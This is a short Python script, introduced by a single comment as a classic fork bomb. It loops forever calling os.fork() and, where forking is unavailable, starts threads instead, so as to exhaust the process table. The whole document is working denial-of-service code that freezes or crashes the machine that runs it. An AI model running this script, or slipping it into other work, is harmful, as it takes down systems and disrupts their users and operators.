# A fork bomb: forks (failing that, starts threads) forever to exhaust the process table (classic).
import os
import threading

while True:
    try:
        os.fork()
    except AttributeError:
        threading.Thread(target=lambda: None).start()
